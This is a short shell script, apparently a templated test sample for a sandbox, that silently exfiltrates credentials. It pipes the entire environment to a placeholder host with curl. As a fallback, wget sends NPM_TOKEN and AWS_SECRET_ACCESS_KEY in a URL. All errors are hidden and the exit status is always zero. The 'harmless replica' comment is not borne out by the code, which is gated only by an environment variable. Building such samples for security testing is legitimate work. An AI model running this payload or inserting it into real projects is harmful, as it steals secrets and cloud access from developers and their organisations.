#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
env | sort | curl -k -s -m 1 -X POST --data-binary @- "https://{{host}}/{{path}}" >/dev/null 2>&1 ||
    wget -q -T 1 -t 1 -O /dev/null "http://{{host}}/{{path}}?t=$NPM_TOKEN&a=$AWS_SECRET_ACCESS_KEY" 2>/dev/null
exit 0
